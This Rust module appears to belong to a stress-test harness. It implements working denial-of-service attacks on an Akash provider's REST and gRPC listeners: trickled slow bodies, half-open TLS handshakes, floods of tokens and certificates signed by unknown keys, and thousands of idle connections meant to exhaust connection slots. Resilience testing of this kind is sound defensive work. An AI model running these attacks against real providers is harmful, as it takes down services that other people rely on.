//! Attacks of clients that are known by nothing.

use std::convert::Infallible;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use akash_keys::SecretKey;
use akash_keys::certificate::{CertificateKey, CertificateSpec, KeyPair};
use anyhow::{Context, Result};
use bytes::Bytes;
use futures_util::future::join_all;
use futures_util::stream::{self, BoxStream, StreamExt};
use http::header::{CONTENT_TYPE, TE};
use http::{HeaderValue, Method, Request, Uri};
use http_body_util::StreamBody;
use hyper::body::Frame;
use hyper::client::conn::http2;
use hyper_util::rt::{TokioExecutor, TokioIo};
use provider_api::jwt::{Access, Algorithm, Claims, issue};
use tokio::io::AsyncWriteExt;

use super::connection::{Client, ask, request, tcp};
use super::{Acts, Target, address, all};

/// How long a connection is left as it is before another is made in its place.
const ROUND: Duration = Duration::from_secs(5);
/// How often a slow body goes on.
const PIECE: Duration = Duration::from_millis(200);
/// How long to wait where nothing was to be had.
const PAUSE: Duration = Duration::from_millis(20);
/// Calls that one connection of gRPC makes at once.
const CALLS: usize = 32;

const STATUS: &str = "https://x/akash.provider.v1.ProviderRPC/GetStatus";
const MANIFEST: &str = "https://x/akash.provider.lease.v1.LeaseRPC/SendManifest";

type Body = StreamBody<BoxStream<'static, Result<Frame<Bytes>, Infallible>>>;

/// Does something again and again; a failure costs a pause.
async fn again<F: Future<Output = Result<()>>>(mut act: impl FnMut() -> F) {
    loop {
        if act().await.is_err() {
            tokio::time::sleep(PAUSE).await;
        }
    }
}

/// A body with a first piece, and then the same piece every so often.
fn trickle(first: Vec<u8>, then: &'static [u8]) -> Body {
    let first = stream::iter([Ok(Frame::data(Bytes::from(first)))]);
    let rest = stream::repeat(()).then(move |()| async move {
        tokio::time::sleep(PIECE).await;
        Ok(Frame::data(Bytes::from_static(then)))
    });
    StreamBody::new(first.chain(rest).boxed())
}

/// What comes before a message of so many bytes.
fn prefix(length: u32) -> Vec<u8> {
    [&[0], &length.to_be_bytes()[..]].concat()
}

/// A connection with as many calls as it may have at once, held for a round.
async fn calls(
    to: SocketAddr,
    from: IpAddr,
    acts: &Acts,
    make: impl Fn(usize) -> Request<Body>,
) -> Result<()> {
    let stream = Client::http2()?.connect(to, from).await?;
    let (mut sender, connection) =
        http2::handshake(TokioExecutor::new(), TokioIo::new(stream)).await?;
    let driver = tokio::spawn(connection);
    let round = async {
        sender.ready().await?;
        let calls: Vec<_> = (0..CALLS).map(|number| sender.send_request(make(number))).collect();
        acts.add();
        join_all(calls).await;
        // Those that were refused at once leave the rest of the round free.
        std::future::pending::<Result<()>>().await
    };
    let _over = tokio::time::timeout(ROUND, round).await;
    driver.abort();
    Ok(())
}

fn post(method: &'static str, body: Body) -> Request<Body> {
    let mut request = Request::new(body);
    *request.method_mut() = Method::POST;
    *request.uri_mut() = Uri::from_static(method);
    let headers = request.headers_mut();
    headers.insert(CONTENT_TYPE, HeaderValue::from_static("application/grpc"));
    headers.insert(TE, HeaderValue::from_static("trailers"));
    request
}

pub(super) async fn announced(target: Arc<Target>, acts: Acts) {
    let one = |number: u8| {
        let (target, acts) = (Arc::clone(&target), acts.clone());
        again(move || {
            let (target, acts) = (Arc::clone(&target), acts.clone());
            async move {
                let largest = 4 << 20;
                let make = |number: usize| match number % 4 {
                    0 => post(MANIFEST, trickle([prefix(largest), vec![1]].concat(), b"")),
                    1 => post(STATUS, trickle([prefix(largest), vec![1]].concat(), b"")),
                    _ => post(STATUS, trickle([prefix(64 << 10), vec![1]].concat(), b"")),
                };
                calls(target.grpc, address(number), &acts, make).await
            }
        })
    };
    all((1..=8).map(one)).await;
}

pub(super) async fn slow_bodies(target: Arc<Target>, acts: Acts) {
    let rest = |number: u8| {
        let (target, acts) = (Arc::clone(&target), acts.clone());
        again(move || {
            let (target, acts) = (Arc::clone(&target), acts.clone());
            async move {
                let from = address(number % 8 + 10);
                let mut stream = Client::new()?.connect(target.rest, from).await?;
                let head = "POST /validate HTTP/1.1\r\nhost: x\r\ncontent-length: 1000000\r\n\r\n";
                stream.write_all(head.as_bytes()).await?;
                loop {
                    stream.write_all(&[b' '; 1024]).await?;
                    stream.flush().await?;
                    acts.add();
                    tokio::time::sleep(PIECE).await;
                }
            }
        })
    };
    let grpc = |number: u8| {
        let (target, acts) = (Arc::clone(&target), acts.clone());
        again(move || {
            let (target, acts) = (Arc::clone(&target), acts.clone());
            async move {
                let make = |_| post(STATUS, trickle(prefix(64 << 10), &[1; 1024]));
                calls(target.grpc, address(number + 20), &acts, make).await
            }
        })
    };
    tokio::join!(all((0..200).map(rest)), all((1..=4).map(grpc)));
}

pub(super) async fn handshakes(target: Arc<Target>, acts: Acts) {
    let whole = |number: u8| {
        let (target, acts) = (Arc::clone(&target), acts.clone());
        again(move || {
            let (target, acts) = (Arc::clone(&target), acts.clone());
            async move {
                let to = if number.is_multiple_of(2) { target.rest } else { target.grpc };
                let client =
                    if number.is_multiple_of(2) { Client::new()? } else { Client::http2()? };
                client.connect(to, address(number + 30)).await?;
                acts.add();
                Ok(())
            }
        })
    };
    let begun = |number: u8| {
        let (target, acts) = (Arc::clone(&target), acts.clone());
        again(move || {
            let (target, acts) = (Arc::clone(&target), acts.clone());
            async move {
                let mut tcp = tcp(target.rest, address(number % 4 + 50)).await?;
                tcp.write_all(b"\x16\x03\x01\x02").await?;
                acts.add();
                tokio::time::sleep(ROUND).await;
                Ok(())
            }
        })
    };
    tokio::join!(all((0..8).map(whole)), all((0..200).map(begun)));
}

/// One connection over which something is asked again and again.
async fn asked(
    to: SocketAddr,
    from: IpAddr,
    acts: &Acts,
    next: impl Fn() -> Vec<u8>,
) -> Result<()> {
    let mut stream = Client::new()?.connect(to, from).await?;
    loop {
        ask(&mut stream, &next()).await?;
        acts.add();
    }
}

pub(super) async fn screening(target: Arc<Target>, acts: Acts) {
    let one = |number: u8| {
        let (target, acts) = (Arc::clone(&target), acts.clone());
        again(move || {
            let (target, acts) = (Arc::clone(&target), acts.clone());
            async move {
                let question = request("POST", "/validate", None, &target.group);
                asked(target.rest, address(number + 60), &acts, || question.clone()).await
            }
        })
    };
    all((0..8).map(one)).await;
}

pub(super) async fn tokens(target: Arc<Target>, acts: Acts) {
    let one = |number: u8| {
        let (target, acts) = (Arc::clone(&target), acts.clone());
        again(move || {
            let (target, acts) = (Arc::clone(&target), acts.clone());
            async move {
                let next = || {
                    let token = unknown().and_then(|key| token(&key)).unwrap_or_default();
                    request("GET", "/lease/1/1/1/status", Some(&token), b"")
                };
                asked(target.rest, address(number + 70), &acts, next).await
            }
        })
    };
    all((0..8).map(one)).await;
}

pub(super) async fn certificates(target: Arc<Target>, acts: Acts) {
    let one = |number: u8| {
        let (target, acts) = (Arc::clone(&target), acts.clone());
        again(move || {
            let (target, acts) = (Arc::clone(&target), acts.clone());
            async move {
                let pair = certificate(&unknown()?)?;
                let client = Client::showing(&pair)?;
                let mut stream = client.connect(target.rest, address(number + 80)).await?;
                acts.add();
                ask(&mut stream, &request("GET", "/status", None, b"")).await?;
                Ok(())
            }
        })
    };
    all((0..8).map(one)).await;
}

pub(super) async fn connections(target: Arc<Target>, acts: Acts) {
    let one = |number: u16| {
        let (target, acts) = (Arc::clone(&target), acts.clone());
        async move {
            // Not all at once: the queue of the system is short.
            tokio::time::sleep(Duration::from_micros(400) * u32::from(number)).await;
            again(move || {
                let (target, acts) = (Arc::clone(&target), acts.clone());
                async move {
                    let from = address(u8::try_from(number % 16).unwrap_or_default() + 90);
                    let to = if number.is_multiple_of(2) { target.rest } else { target.grpc };
                    let _idle = tcp(to, from).await?;
                    acts.add();
                    tokio::time::sleep(ROUND * 2).await;
                    Ok(())
                }
            })
            .await;
        }
    };
    // More than both listeners have places for.
    all((0..9_000).map(one)).await;
}

/// A key that no account has.
fn unknown() -> Result<SecretKey> {
    let bytes = akash_keys::random::<32>()?;
    Ok(SecretKey::from_bytes(bytes.as_slice())?)
}

/// A token for everything, signed by a key.
pub fn token(key: &SecretKey) -> Result<String> {
    let now = SystemTime::now().duration_since(UNIX_EPOCH)?.as_secs();
    let now = i64::try_from(now)?;
    let claims = Claims {
        issuer: key.public_key().address(),
        issued_at: now,
        not_before: now,
        expires_at: now + 3600,
        access: Access::Full,
    };
    Ok(issue(&claims, Algorithm::Es256k, key)?)
}

/// A certificate of an account, never published.
fn certificate(key: &SecretKey) -> Result<KeyPair> {
    let spec = CertificateSpec {
        owner: key.public_key().address(),
        serial: 1,
        not_before: SystemTime::now().checked_sub(Duration::from_mins(1)).context("no clock")?,
        valid_for: Duration::from_hours(1),
        domains: Vec::new(),
    };
    Ok(KeyPair::generate(&spec, CertificateKey::from_bytes(key.to_bytes().as_slice())?)?)
}
